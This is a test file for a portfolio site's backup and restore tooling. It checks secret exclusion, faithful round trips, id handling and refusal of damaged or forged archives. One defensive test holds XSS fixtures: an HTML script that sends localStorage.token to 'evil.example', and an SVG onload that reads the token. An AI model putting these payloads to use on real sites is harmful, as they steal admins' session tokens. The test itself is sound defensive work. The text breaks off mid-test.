import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, truncate, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { createGunzip, gunzipSync, gzipSync } from 'node:zlib';

import { CONTENT_KINDS, type ContentKind, KINDS } from '@portfolio/contract/kinds';
import { createConnection } from 'mysql2/promise';
import sharp from 'sharp';
import tar from 'tar-stream';
import { DataSource } from 'typeorm';

import { base32Decode, totpAt } from '../src/auth/totp.js';
import { ArchiveError, type Manifest } from '../src/backup/archive.js';
import { runBackup } from '../src/backup/backup.js';
import { BackupScheduler } from '../src/backup/backup-scheduler.js';
import type { RunOutcome } from '../src/backup/backup-state.js';
import { BACKUP_TABLES, keptColumns, SECRET_LOOKING } from '../src/backup/backup-tables.js';
import { runRestore, TargetNotEmptyError } from '../src/backup/restore.js';
import { type AppConfig, loadConfig } from '../src/config/config.js';
import { ENTITIES, openDataSource } from '../src/database/data-source.js';
import { ADMIN, type Api, publicSampleOf, sampleOf, startApi, TEST_DB } from './support/harness.js';

const CLI = path.join(path.dirname(fileURLToPath(import.meta.url)), '..', 'src', 'backup', 'cli.js');
const tmp = () => mkdtemp(path.join(os.tmpdir(), 'portfolio-backup-test-'));
// The round trip's books are made by hand (a cover, the trash); one item of each other kind.
const otherKinds = CONTENT_KINDS.filter((kind) => kind !== 'books');

/** The config of a target instance: a fresh VAR_DIR, and the MySQL test database on the MySQL pass. */
function targetConfig(varDir: string, env: Record<string, string> = {}): AppConfig {
  return loadConfig({
    VAR_DIR: varDir,
    ADMIN_USERNAME: ADMIN.username,
    ADMIN_PASSWORD: 'restored-password-1',
    ...(TEST_DB === 'mysql' ? { DATABASE_URL: process.env.TEST_MYSQL_URL! } : {}),
    ...env,
  });
}

async function mysqlTables(): Promise<string[]> {
  const conn = await createConnection({ uri: process.env.TEST_MYSQL_URL!.replace(/^mariadb:/, 'mysql:'), multipleStatements: true });
  try {
    const [rows] = await conn.query('SELECT table_name AS name FROM information_schema.tables WHERE table_schema = DATABASE()');
    return (rows as { name: string }[]).map((r) => r.name);
  } finally {
    await conn.end();
  }
}

async function emptyMysql() {
  const names = await mysqlTables();
  if (!names.length) return;
  const conn = await createConnection({ uri: process.env.TEST_MYSQL_URL!.replace(/^mariadb:/, 'mysql:'), multipleStatements: true });
  try {
    await conn.query(`SET FOREIGN_KEY_CHECKS = 0; DROP TABLE ${names.map((n) => `\`${n}\``).join(', ')}; SET FOREIGN_KEY_CHECKS = 1;`);
  } finally {
    await conn.end();
  }
}

/** Whether the target has nothing: no SQLite file (or no MySQL table) and no uploads. */
async function targetUntouched(varDir: string) {
  if (TEST_DB === 'mysql') assert.deepEqual(await mysqlTables(), []);
  else assert.equal(existsSync(path.join(varDir, 'data', 'portfolio.sqlite')), false, 'no database file was created');
  assert.equal(existsSync(path.join(varDir, 'uploads')), false, 'no upload was written');
}

/** Every entry of a .tar.gz archive, by name. */
async function entriesOf(file: string): Promise<Map<string, Buffer>> {
  const out = new Map<string, Buffer>();
  const extract = tar.extract();
  const { createReadStream } = await import('node:fs');
  createReadStream(file).pipe(createGunzip()).pipe(extract);
  for await (const entry of extract) {
    const chunks: Buffer[] = [];
    for await (const chunk of entry) chunks.push(chunk as Buffer);
    out.set(entry.header.name, Buffer.concat(chunks));
  }
  return out;
}

async function packArchive(file: string, entries: Map<string, Buffer>) {
  const pack = tar.pack();
  const chunks: Buffer[] = [];
  pack.on('data', (c: unknown) => void chunks.push(c as Buffer));
  const done = once(pack, 'end');
  for (const [name, data] of entries) pack.entry({ name }, data);
  pack.finalize();
  await done;
  await writeFile(file, gzipSync(Buffer.concat(chunks)));
}

const manifestOf = async (file: string) => JSON.parse((await entriesOf(file)).get('manifest.json')!.toString()) as Manifest;

/** What visitors and admins read through /api, for comparing two instances. */
async function answers(api: Api, token: string) {
  const out: Record<string, unknown> = {};
  assert.equal((await api.request('GET', '/api/contacts', { token })).status, 200, 'the admin session is valid');
  for (const kind of CONTENT_KINDS) {
    const list = await api.request('GET', `/api/${kind}`);
    assert.equal(list.status, 200);
    out[kind] = list.body;
    for (const item of list.body as { id: number }[])
      out[`${kind}/${item.id}`] = (await api.request('GET', `/api/${kind}/${item.id}`)).body;
    const trash = KINDS[kind].softDelete.adminListsDeleted ? '' : '?includeDeleted=true';
    const admin = await api.request('GET', `/api/${kind}${trash}`, { token });
    assert.equal(admin.status, 200);
    out[`admin:${kind}`] = admin.body;
  }
  out.contacts = (await api.request('GET', '/api/contacts?includeDeleted=true', { token })).body;
  out.settings = (await api.request('GET', '/api/admin/settings', { token })).body;
  // Two-factor sign-in is set up again after a restore (its secrets are not in archives): compared apart.
  out.users = ((await api.request('GET', '/api/admin/users', { token })).body as Record<string, unknown>[]).map(
    ({ twoFactorEnabled: _, ...user }) => user,
  );
  return out;
}

describe('backup tables', () => {
  it('classifies every table of ENTITIES: backed up, or left out with a reason', async () => {
    const ds = new DataSource({
      type: 'better-sqlite3',
      driver: (await import('libsql')).default,
      database: ':memory:',
      entities: ENTITIES,
    });
    await ds.initialize();
    try {
      const unclassified = ds.entityMetadatas.map((m) => m.tableName).filter((t) => !BACKUP_TABLES[t]);
      assert.deepEqual(unclassified, [], `classify these tables in admin-api/src/backup/backup-tables.ts: ${unclassified.join(', ')}`);
      for (const m of ds.entityMetadatas) {
        const policy = BACKUP_TABLES[m.tableName];
        if (!policy.keep) continue;
        if (policy.onlyColumns) {
          // A table with sign-in material: every column is a deliberate choice.
          const undecided = m.columns
            .map((c) => c.propertyName)
            .filter((c) => !policy.onlyColumns!.includes(c) && !policy.secretColumns?.includes(c));
          assert.deepEqual(undecided, [], `${m.tableName}: list these columns in onlyColumns or secretColumns`);
        }
        const secretLooking = keptColumns(m)
          .map((c) => c.propertyName)
          .filter((c) => SECRET_LOOKING.test(c));
        assert.deepEqual(secretLooking, [], `${m.tableName} would back up columns that look like secrets`);
      }
      for (const secret of ['admin_sessions', 'password_reset_tokens']) assert.equal(BACKUP_TABLES[secret].keep, false);
    } finally {
      await ds.destroy();
    }
  });
});

describe('npm run backup → npm run restore (round trip)', () => {
  let source: Api;
  let target: Api | undefined;
  let token: string;
  let work: string;
  let first: string;
  let sessionHashes: string[] = [];
  let twoFactorSecrets: string[] = [];
  let png: Buffer;
  let sourceAnswers: Record<string, unknown>;
  let removedPlay: number;
  before(async () => {
    work = await tmp();
    // The source is SQLite on both passes: on the MySQL pass the round trip moves a site from SQLite to MySQL.
    source = await startApi({ BACKUP_EVERY: 'off' }, { databaseUrl: '' });
    token = await source.login();
    png = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#c8553d' } })
      .png()
      .toBuffer();
    const form = new FormData();
    form.append('file', new Blob([new Uint8Array(png)], { type: 'image/png' }), 'cover.png');
    form.append('contentType', 'books');
    const upload = await source.request('POST', '/api/upload', { token, rawBody: form });
    assert.equal(upload.status, 201);
    const book = await source.request('POST', '/api/books', {
      token,
      body: sampleOf.books({ title: 'ذاكرة غزة 🌊', coverImage: upload.body.url, awards: ['جائزة'], reviews: ['"Moving" — A Reader'] }),
    });
    assert.equal(book.status, 201);
    assert.equal(
      (await source.request('PATCH', `/api/books/${book.body.id}`, { token, body: { description: 'نص معدل\nسطر ثان' } })).status,
      200,
    );
    const trashed = await source.request('POST', '/api/books', {
      token,
      body: sampleOf.books({ title: 'In the trash', published: false }),
    });
    assert.equal((await source.request('PATCH', `/api/books/${trashed.body.id}`, { token, body: { isDeleted: true } })).status, 200);
    const shortBio = { shortBioEn: 'Nour writes from Gaza.', shortBioAr: 'نور تكتب من غزة.' };
    assert.equal((await source.request('PATCH', '/api/admin/settings', { token, body: shortBio })).status, 200);
    // One visible item of every other kind, with what is easy to lose on the way.
    const extras: Partial<Record<ContentKind, Record<string, unknown>>> = {
      essays: { title: 'مقال', publishedDate: '2024-05-01T10:20:30.456Z' },
      artworks: { image: upload.body.url },
      plays: { arabicTitle: 'مسرحية' },
    };
    for (const kind of otherKinds) {
      assert.equal((await source.request('POST', `/api/${kind}`, { token, body: publicSampleOf(kind, extras[kind]) })).status, 201, kind);
    }
    // A play deleted for good, after the other items: the highest play id, named only by its history.
    const removed = await source.request('POST', '/api/plays', { token, body: sampleOf.plays({ title: 'Removed for good' }) });
    assert.equal((await source.request('DELETE', `/api/plays/${removed.body.id}`, { token })).status, 204);
    removedPlay = removed.body.id;
    assert.equal(
      (
        await source.request('POST', '/api/contacts', {
          body: { name: 'زائر', email: 'visitor@example.test', subject: 'سلام', message: 'رسالة' },
        })
      ).status,
      201,
    );
    const editor = await source.request('POST', '/api/admin/users', {
      token,
      body: { username: 'editor', email: 'editor@example.test', name: 'Editor', password: 'editor-password' },
    });
    assert.equal(editor.status, 201);
    // Sign-in material that must stay out of the archive: sessions, a reset token, password hashes,
    // the editor's two-factor secret (as sent and as stored) and recovery codes.
    const editorToken = await source.login('editor', 'editor-password');
    const setup = await source.request('POST', '/api/admin/two-factor/setup', { token: editorToken });
    assert.equal(setup.status, 200, setup.text);
    const confirm = await source.request('POST', '/api/admin/two-factor/confirm', {
      token: editorToken,
      body: { code: totpAt(base32Decode(setup.body.secret), Date.now()) },
    });
    assert.equal(confirm.status, 200, confirm.text);
    twoFactorSecrets = [setup.body.secret, ...(confirm.body.recoveryCodes as string[])];
    const stored = (await source.dataSource.query('SELECT totpSecret FROM admin_totp')) as { totpSecret: string }[];
    twoFactorSecrets.push(...stored.map((r) => r.totpSecret));
    assert.equal(twoFactorSecrets.length, 12);
    assert.equal((await source.request('POST', '/api/admin/forgot-password', { body: { email: ADMIN.email } })).status, 200);
    const rows = (await source.dataSource.query('SELECT id FROM admin_sessions UNION ALL SELECT id FROM password_reset_tokens')) as {
      id: string;
    }[];
    sessionHashes = rows.map((r) => r.id);
    assert.ok(sessionHashes.length >= 3);
    first = path.join(work, 'first.tar.gz');
    await runBackup(source.config, { out: first });
    // Read now: two APIs in one process share passport's bearer strategy, so the source's admin
    // reads must happen before the target starts.
    sourceAnswers = await answers(source, token);
  });
  after(async () => {
    await source?.close();
    await target?.close();
    await rm(work, { recursive: true, force: true });
  });

  it('writes one archive whose manifest lists every table, file and checksum, and no sign-in secret', async () => {
    const entries = await entriesOf(first);
    const manifest = JSON.parse(entries.get('manifest.json')!.toString()) as Manifest;
    assert.equal(manifest.format, 'portfolio-backup');
    assert.equal(manifest.formatVersion, 1);
    assert.equal(manifest.appVersion, '1.0.0');
    assert.equal(manifest.source.database, 'sqlite');
    assert.ok(manifest.migrations.includes('Backups1764100000000'));
    const counts = Object.fromEntries(manifest.tables.map((t) => [t.name, t.rows]));
    assert.equal(counts.books, 2);
    assert.equal(counts.contacts, 1);
    assert.equal(counts.admin_users, 2);
    assert.ok(counts.content_revisions >= 7, 'revisions are in the archive');
    for (const secret of ['admin_sessions', 'password_reset_tokens']) {
      assert.equal(counts[secret], undefined);
      assert.ok(manifest.excluded.tables[secret]);
    }
    assert.deepEqual(manifest.excluded.columns.admin_users, ['passwordHash']);
    assert.deepEqual(manifest.files, { count: 1, bytes: png.length });
    assert.deepEqual([...entries.keys()].slice(1).sort(), manifest.entries.map((e) => e.name).sort());
    const upload = manifest.entries.find((e) => e.name.startsWith('uploads/books/'))!;
    assert.deepEqual(entries.get(upload.name), png);

    const everything = Buffer.concat([...entries].filter(([name]) => name !== 'manifest.json').map(([, data]) => data)).toString('latin1');
    assert.doesNotMatch(everything, /\$argon2/, 'no password hash');
    assert.doesNotMatch(everything, /passwordHash/);
    for (const hash of sessionHashes) assert.equal(everything.includes(hash), false, 'no session or reset token hash');
    for (const secret of twoFactorSecrets) assert.equal(everything.includes(secret), false, 'no two-factor secret or recovery code');
    for (const table of ['admin_totp', 'admin_recovery_codes', 'admin_login_challenges']) assert.ok(manifest.excluded.tables[table], table);
    const users = entries
      .get('data/admin_users.jsonl')!
      .toString()
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    assert.deepEqual(Object.keys(users[0]), ['id', 'username', 'email', 'name', 'isActive', 'isSuperadmin', 'createdAt', 'updatedAt']);
  });

  it(`restores into an empty ${TEST_DB === 'mysql' ? 'MySQL database' : 'SQLite instance'} that answers /api the same, and whose backup has the same checksums`, async () => {
    const varDir = await tmp();
    if (TEST_DB === 'mysql') await emptyMysql();
    const lines: string[] = [];
    const result = await runRestore(targetConfig(varDir), first, { onProgress: (p) => lines.push(`${p.phase} ${p.done}/${p.total}`) });
    assert.equal(result.files, 1);
    assert.deepEqual(result.admin, { username: ADMIN.username, generatedPassword: null });
    assert.ok(lines.includes('files 1/1'));
    assert.ok(
      lines.some((l) => /^rows (\d+)\/\1$/.test(l)),
      'progress reaches every row',
    );

    target = await startApi({ ADMIN_PASSWORD: 'restored-password-1', BACKUP_EVERY: 'off' }, { varDir, keepData: true });
    // The first admin signs in with ADMIN_PASSWORD; the other restored admin cannot until a reset.
    const targetToken = await target.login(ADMIN.username, 'restored-password-1');
    assert.equal(
      (await target.request('POST', '/api/admin/login', { body: { username: 'editor', password: 'editor-password' } })).status,
      401,
    );
    assert.equal(
      (await target.request('POST', '/api/admin/login', { body: { username: ADMIN.username, password: ADMIN.password } })).status,
      401,
    );
    const restoredUsers = (await target.request('GET', '/api/admin/users', { token: targetToken })).body as {
      username: string;
      twoFactorEnabled: boolean;
    }[];
    assert.equal(restoredUsers.find((u) => u.username === 'editor')?.twoFactorEnabled, false, 'two-factor is set up again after a restore');
    const [mine, theirs] = [sourceAnswers, await answers(target, targetToken)];
    for (const key of Object.keys(mine)) assert.deepEqual(theirs[key], mine[key], key);
    const cover = (mine.books as { coverImage: string }[])[0].coverImage;
    const served = await fetch(target.url + cover);
    assert.equal(served.status, 200);
    assert.deepEqual(Buffer.from(await served.arrayBuffer()), png);
    // Publishing as usual: the restored items wait in the outbox for the next rebuild request.
    // (Besides the restored cover's variants, made again by the target and published when done: image-variants.spec.ts.)
    const [{ n }] = (await target.dataSource.query(
      "SELECT COUNT(*) AS n FROM outbox_events WHERE processedAt IS NULL AND kind <> 'image-variants'",
    )) as { n: number }[];
    assert.equal(Number(n), 2 + otherKinds.length, 'the two books and the item of every other kind');

    const second = path.join(work, 'second.tar.gz');
    await runBackup(target.config, { out: second });
    const [a, b] = [await manifestOf(first), await manifestOf(second)];
    assert.equal(b.source.database, TEST_DB);
    assert.deepEqual(b.entries, a.entries, 'the same content and files, byte for byte');
    assert.deepEqual(b.tables, a.tables);

    // Ids are never reused: a new play does not take the id of the play deleted for good, whose
    // history stays its own.
    const play = await target.request('POST', '/api/plays', { token: targetToken, body: sampleOf.plays({ title: 'New after restore' }) });
    assert.equal(play.status, 201);
    assert.ok(play.body.id > removedPlay, `new play ${play.body.id}, removed ${removedPlay}`);
    const removedList = (await target.request('GET', '/api/admin/revisions/plays/removed', { token: targetToken })).body as {
      id?: number;
      entityId?: number;
    }[];
    assert.ok(JSON.stringify(removedList).includes('Removed for good'), 'still listed as deleted for good');
  });

  it('refuses to restore into an instance that holds data, and changes nothing', async () => {
    assert.ok(target, 'needs the restored instance');
    const before = await answers(target!, await target!.login(ADMIN.username, 'restored-password-1'));
    await assert.rejects(runRestore(targetConfig(target!.config.varDir), first), (error: Error) => {
      assert.ok(error instanceof TargetNotEmptyError);
      assert.match(
        error.message,
        /^Refusing to restore: the database already holds rows \(admin_users: 2, books: 2, essays: 1, artworks: 1, news: 1, plays: 2, contacts: 1, content_revisions: \d+, site_settings: 1, newsletter_offers: \d+\)\. A restore goes only into an empty instance: a new database \(DATABASE_URL\) or a new VAR_DIR, before the API's first start\. Nothing was changed\.$/,
      );
      return true;
    });
    assert.deepEqual(await answers(target!, await target!.login(ADMIN.username, 'restored-password-1')), before);
  });

  // Last: on MySQL it empties the database the restored instance above runs on.
  it('keeps uploads that are already there with the same bytes (moving a site within one VAR_DIR), refuses different ones', async () => {
    const upload = (await manifestOf(first)).entries.find((e) => e.name.startsWith('uploads/'))!.name;
    const same = await tmp();
    await mkdir(path.dirname(path.join(same, upload)), { recursive: true });
    await writeFile(path.join(same, upload), png);
    const other = await tmp();
    await mkdir(path.dirname(path.join(other, upload)), { recursive: true });
    await writeFile(path.join(other, upload), Buffer.from('other bytes'));
    if (TEST_DB === 'mysql') await emptyMysql();
    await assert.rejects(runRestore(targetConfig(other), first), (error: Error) => {
      assert.ok(error instanceof TargetNotEmptyError);
      assert.equal(
        error.message,
        `Refusing to restore: the uploads folder already holds different files with the same names (${upload}). A restore goes only into an empty instance: a new database (DATABASE_URL) or a new VAR_DIR, before the API's first start. Nothing was changed.`,
      );
      return true;
    });
    assert.deepEqual(await readFile(path.join(other, upload)), Buffer.from('other bytes'));
    const seen: string[] = [];
    const result = await runRestore(targetConfig(same), first, { onProgress: (p) => seen.push(`${p.phase} ${p.done}/${p.total}`) });
    assert.equal(result.files, 1);
    assert.ok(seen.includes('files 1/1'), 'kept files count as done');
    assert.deepEqual(await readFile(path.join(same, upload)), png);
    if (TEST_DB === 'mysql') await emptyMysql();
    await rm(same, { recursive: true, force: true });
    await rm(other, { recursive: true, force: true });
  });
});

/** A new reader's id (subscribed as a visitor, read from the admin's list), and a new item's. */
const subscriber = async (api: Api, token: string, email: string) => {
  assert.equal((await api.request('POST', '/api/newsletter/subscribe', { body: { email, language: 'en' } })).status, 202);
  const list = await api.request('GET', `/api/subscribers?search=${encodeURIComponent(email)}`, { token });
  return (list.body.items as { id: number; email: string }[]).find((s) => s.email === email)!.id;
};
const item = async (api: Api, token: string, kind: ContentKind, title: string) => {
  const res = await api.request('POST', `/api/${kind}`, { token, body: publicSampleOf(kind, { title }) });
  assert.equal(res.status, 201, res.text);
  return res.body.id as number;
};
const restored = (varDir: string) => startApi({ ADMIN_PASSWORD: 'restored-password-1', BACKUP_EVERY: 'off' }, { varDir, keepData: true });

/** Deletes every row of every table, as an operator emptying a database would (the id counters stay). */
async function emptyTables(config: AppConfig) {
  const ds = await openDataSource(config);
  const runner = ds.createQueryRunner();
  try {
    await runner.query(TEST_DB === 'mysql' ? 'SET FOREIGN_KEY_CHECKS = 0' : 'PRAGMA foreign_keys = OFF');
    for (const m of ds.entityMetadatas) await runner.query(`DELETE FROM ${ds.driver.escape(m.tableName)}`);
  } finally {
    await runner.release();
    await ds.destroy();
  }
}

describe('ids after a restore (issue 32: an old link or feed never points at a new row)', () => {
  it('a restore into a database emptied after the backup does not hand out again the ids it had given since', async () => {
    const work = await tmp();
    const varDir = await tmp();
    let api: Api | undefined = await startApi({ BACKUP_EVERY: 'off' }, { varDir });
    try {
      let token = await api.login();
      await subscriber(api, token, 'before@example.test');
      await item(api, token, 'essays', 'Before the backup');
      const archive = path.join(work, 'site.tar.gz');
      await runBackup(api.config, { out: archive });
      const laterReader = await subscriber(api, token, 'after@example.test');
      const laterEssay = await item(api, token, 'essays', 'After the backup');
      await api.close({ keepData: true });
      api = undefined;
      // The operator empties the tables (their counters stay) and restores the archive into them.
      await emptyTables(targetConfig(varDir));
      await runRestore(targetConfig(varDir), archive);
      api = await restored(varDir);
      token = await api.login(ADMIN.username, 'restored-password-1');
      const reader = await subscriber(api, token, 'new@example.test');
      assert.ok(reader > laterReader, `new reader ${reader}, reader added after the backup ${laterReader}`);
      const essay = await item(api, token, 'essays', 'New after the restore');
      assert.ok(essay > laterEssay, `new essay ${essay}, essay added after the backup ${laterEssay}`);
    } finally {
      await api?.close();
      await rm(work, { recursive: true, force: true });
      await rm(varDir, { recursive: true, force: true });
      if (TEST_DB === 'mysql') await emptyMysql();
    }
  });

  it("a restore on a fresh instance keeps unused the ids the source had handed out (the manifest's nextIds); an archive without them still restores", async () => {
    const work = await tmp();
    const dirs: string[] = [];
    let api: Api | undefined = await startApi({ BACKUP_EVERY: 'off' }, { databaseUrl: '' });
    try {
      let token = await api.login();
      const keptReader = await subscriber(api, token, 'kept@example.test');
      await item(api, token, 'plays', 'Kept');
      // Removed before the backup: the highest ids, which no row of the archive holds.
      const goneReader = await subscriber(api, token, 'gone@example.test');
      assert.equal((await api.request('DELETE', `/api/subscribers/${goneReader}`, { token })).status, 204);
      const gonePlay = await item(api, token, 'plays', 'Deleted for good');
      assert.equal((await api.request('DELETE', `/api/plays/${gonePlay}`, { token })).status, 204);
      const archive = path.join(work, 'site.tar.gz');
      await runBackup(api.config, { out: archive });
      await api.close();
      api = undefined;
      const manifest = await manifestOf(archive);
      assert.equal(manifest.nextIds?.newsletter_subscribers, goneReader + 1);
      assert.equal(manifest.nextIds?.plays, gonePlay + 1);

      const fresh = async (file: string) => {
        const varDir = await tmp();
        dirs.push(varDir);
        if (TEST_DB === 'mysql') await emptyMysql();
        await runRestore(targetConfig(varDir), file);
        api = await restored(varDir);
        token = await api.login(ADMIN.username, 'restored-password-1');
        return api;
      };
      const target = await fresh(archive);
      const reader = await subscriber(target, token, 'new@example.test');
      assert.ok(reader > goneReader, `new reader ${reader}, removed reader ${goneReader}`);
      const play = await item(target, token, 'plays', 'New after the restore');
      assert.ok(play > gonePlay, `new play ${play}, play deleted for good ${gonePlay}`);
      await target.close();
      api = undefined;

      // An archive made before nextIds: it restores, and ids go on after its highest one.
      const entries = await entriesOf(archive);
      const { nextIds: _, ...older } = manifest;
      entries.set('manifest.json', Buffer.from(JSON.stringify(older)));
      const olderArchive = path.join(work, 'older.tar.gz');
      await packArchive(olderArchive, entries);
      const olderTarget = await fresh(olderArchive);
      assert.ok((await subscriber(olderTarget, token, 'new@example.test')) > keptReader);
    } finally {
      await api?.close();
      await rm(work, { recursive: true, force: true });
      for (const dir of dirs) await rm(dir, { recursive: true, force: true });
      if (TEST_DB === 'mysql') await emptyMysql();
    }
  });
});

describe('damaged archives', () => {
  let work: string;
  let good: string;
  before(async () => {
    work = await tmp();
    const source = await startApi({ BACKUP_EVERY: 'off' }, { databaseUrl: '' });
    const token = await source.login();
    for (let i = 0; i < 30; i++)
      await source.request('POST', '/api/books', { token, body: sampleOf.books({ title: `Book ${i}`, description: 'x'.repeat(2000) }) });
    good = path.join(work, 'good.tar.gz');
    await runBackup(source.config, { out: good });
    await source.close();
  });
  after(() => rm(work, { recursive: true, force: true }));

  it('refuses a truncated archive before writing anything', async () => {
    const cut = path.join(work, 'cut.tar.gz');
    await writeFile(cut, (await readFile(good)).subarray(0, Math.floor((await readFile(good)).length / 2)));
    const varDir = await tmp();
    if (TEST_DB === 'mysql') await emptyMysql();
    await assert.rejects(runRestore(targetConfig(varDir), cut), (error: Error) => {
      assert.ok(error instanceof ArchiveError);
      assert.equal(error.message, 'The archive is truncated: its compressed data ends early (an interrupted copy or download?)');
      return true;
    });
    await targetUntouched(varDir);
  });

  it('refuses an archive cut at an entry boundary (complete gzip, entries missing)', async () => {
    const entries = await entriesOf(good);
    const kept = new Map([...entries].slice(0, 2));
    const short = path.join(work, 'short.tar.gz');
    await packArchive(short, kept);
    const varDir = await tmp();
    if (TEST_DB === 'mysql') await emptyMysql();
    await assert.rejects(
      runRestore(targetConfig(varDir), short),
      /^ArchiveError: The archive is truncated: \d+ listed entries are missing \(/,
    );
    await targetUntouched(varDir);
  });

  it('refuses an archive whose content does not match its checksums', async () => {
    const entries = await entriesOf(good);
    const books = entries.get('data/books.jsonl')!.toString().replace('Book 7', 'Book 8');
    entries.set('data/books.jsonl', Buffer.from(books));
    const tampered = path.join(work, 'tampered.tar.gz');
    await packArchive(tampered, entries);
    const varDir = await tmp();
    if (TEST_DB === 'mysql') await emptyMysql();
    await assert.rejects(runRestore(targetConfig(varDir), tampered), (error: Error) => {
      assert.ok(error instanceof ArchiveError);
      assert.equal(
        error.message,
        'data/books.jsonl in the archive does not match its checksum in the manifest: the archive was changed or damaged',
      );
      return true;
    });
    await targetUntouched(varDir);
  });

  it('refuses an archive of a newer version, and leaves nothing behind', async () => {
    const entries = await entriesOf(good);
    const manifest = JSON.parse(entries.get('manifest.json')!.toString()) as Manifest;
    manifest.migrations.push('FromTheFuture1999999999999');
    entries.set('manifest.json', Buffer.from(JSON.stringify(manifest)));
    const newer = path.join(work, 'newer.tar.gz');
    await packArchive(newer, entries);
    const varDir = await tmp();
    if (TEST_DB === 'mysql') await emptyMysql();
    await assert.rejects(runRestore(targetConfig(varDir), newer), (error: Error) => {
      assert.equal(
        error.message,
        'This backup was made by a newer version of the product (its database has run FromTheFuture1999999999999): update the product first',
      );
      return true;
    });
    await targetUntouched(varDir);
  });

  it('npm run restore says so in one line and exits 1', async () => {
    const cut = path.join(work, 'cut2.tar.gz');
    await writeFile(cut, await readFile(good));
    await truncate(cut, (await readFile(good)).length - 10);
    const varDir = await tmp();
    const { NODE_TEST_CONTEXT: _, ...env } = process.env;
    const run = spawnSync(process.execPath, [CLI, 'restore', cut], {
      env: { ...env, VAR_DIR: varDir, DATABASE_URL: '' },
      encoding: 'utf8',
    });
    assert.equal(run.status, 1, `${run.stdout}\n${run.stderr}`);
    assert.equal(
      run.stderr,
      'The archive was refused, nothing was changed: The archive is truncated: its compressed data ends early (an interrupted copy or download?)\n',
    );
    assert.equal(existsSync(path.join(varDir, 'data')), false);
  });

  /** The good archive with entries changed, added or removed, and the manifest's checksums recomputed (as an attacker would). */
  async function forged(name: string, change: (entries: Map<string, Buffer>, manifest: Manifest) => void) {
    const entries = await entriesOf(good);
    const manifest = JSON.parse(entries.get('manifest.json')!.toString()) as Manifest;
    entries.delete('manifest.json');
    change(entries, manifest);
    manifest.entries = [...entries].map(([entry, data]) => ({
      name: entry,
      size: data.length,
      sha256: createHash('sha256').update(data).digest('hex'),
    }));
    const file = path.join(work, name);
    await packArchive(file, new Map([['manifest.json', Buffer.from(JSON.stringify(manifest))], ...entries]));
    return file;
  }

  /** `npm run restore -- --verify`: its exit code and what it printed. */
  function verifyCommand(file: string) {
    const { NODE_TEST_CONTEXT: _, ...env } = process.env;
    return spawnSync(process.execPath, [CLI, 'restore', '--verify', file], {
      env: { ...env, VAR_DIR: os.tmpdir(), DATABASE_URL: '' },
      encoding: 'utf8',
    });
  }

  async function refusedBeforeWriting(file: string, message: string) {
    const verify = verifyCommand(file);
    assert.equal(verify.status, 1, `--verify accepted it: ${verify.stdout}`);
    assert.equal(verify.stderr, `The archive was refused, nothing was changed: ${message}\n`);
    const varDir = await tmp();
    if (TEST_DB === 'mysql') await emptyMysql();
    await assert.rejects(runRestore(targetConfig(varDir), file), (error: Error) => {
      assert.ok(error instanceof ArchiveError, String(error));
      assert.equal(error.message, message);
      return true;
    });
    await targetUntouched(varDir);
  }

  it('refuses a table the manifest lists in its entries but not as a table (data/evil.jsonl), in --verify too', async () => {
    const file = await forged('evil-table.tar.gz', (entries) => entries.set('data/evil.jsonl', Buffer.from('{"id":1}\n')));
    await refusedBeforeWriting(file, 'The archive holds the table evil, which this version does not know: update the product first');
  });

  it('refuses a table that backups leave out (sessions), listed as a table and all', async () => {
    const file = await forged('sessions.tar.gz', (entries, manifest) => {
      entries.set('data/admin_sessions.jsonl', Buffer.from('{"id":"x"}\n'));
      manifest.tables.push({ name: 'admin_sessions', file: 'data/admin_sessions.jsonl', rows: 1, columns: ['id'] });
    });
    await refusedBeforeWriting(
      file,
      'The archive holds the table admin_sessions, which backups leave out: it was not made by this product',
    );
  });

  it("refuses rows beyond the API's own limits (a book description of 60 MB), in --verify too", async () => {
    const file = await forged('huge.tar.gz', (entries) => {
      const rows = entries
        .get('data/books.jsonl')!
        .toString()
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as Record<string, unknown>);
      rows[2].description = 'x'.repeat(60 * 1024 * 1024);
      entries.set('data/books.jsonl', Buffer.from(rows.map((r) => JSON.stringify(r)).join('\n') + '\n'));
    });
    await refusedBeforeWriting(
      file,
      'data/books.jsonl, line 3, holds more than the API accepts (description: Must be at most 20000 characters)',
    );
  });

  it("refuses a revision whose snapshot is beyond its kind's limits", async () => {
    const file = await forged('huge-revision.tar.gz', (entries) => {
      const rows = entries
        .get('data/content_revisions.jsonl')!
        .toString()
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as Record<string, unknown>);
      (rows[0].snapshot as Record<string, unknown>).awards = Array.from({ length: 201 }, () => 'prize');
      entries.set('data/content_revisions.jsonl', Buffer.from(rows.map((r) => JSON.stringify(r)).join('\n') + '\n'));
    });
    await refusedBeforeWriting(
      file,
      'data/content_revisions.jsonl, line 1, holds more than the API accepts (snapshot.awards: Must have at most 200 entries)',
    );
  });

  it('refuses uploads the upload rules refuse (a page, an SVG, HTML named .jpg, an unknown folder, a name the server does not make) before writing anything', async () => {
    const png = await sharp({ create: { width: 4, height: 3, channels: 3, background: '#000' } })
      .png()
      .toBuffer();
    const html = Buffer.from('<!doctype html><script>fetch("https://evil.example/?" + localStorage.token)</script>');
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(localStorage.token)"/>');
    const cases: [string, Buffer, string][] = [
      [
        'uploads/general/evil.html',
        html,
        'uploads/general/evil.html is not a file the API stores (uploads are images or PDFs under a known folder, with names the server makes)',
      ],
      [
        'uploads/general/evil.svg',
        svg,
        'uploads/general/evil.svg is not a file the API stores (uploads are images or PDFs under a known folder, with names the server makes)',
      ],
      ['uploads/general/evil.jpg', html, 'uploads/general/evil.jpg does not hold what its name says (its bytes are not an image or PDF)'],
      ['uploads/general/evil.pdf', png, 'uploads/general/evil.pdf does not hold what its name says (its bytes are image/png)'],
      [
        'uploads/site/evil.png',
        png,
        'uploads/site/evil.png is not a file the API stores (uploads are images or PDFs under a known folder, with names the server makes)',
      ],
      [
        'uploads/general/Evil Name.png',
        png,
